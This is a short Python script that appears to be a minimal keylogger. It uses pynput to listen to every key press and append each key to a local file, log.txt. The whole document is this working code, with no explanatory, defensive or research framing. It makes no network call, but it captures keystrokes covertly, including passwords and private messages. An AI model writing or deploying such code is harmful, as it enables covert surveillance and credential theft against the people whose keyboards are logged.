from pynput.keyboard import Listener

def on_press(key):
    open('log.txt', 'a').write(str(key))

Listener(on_press=on_press).start()
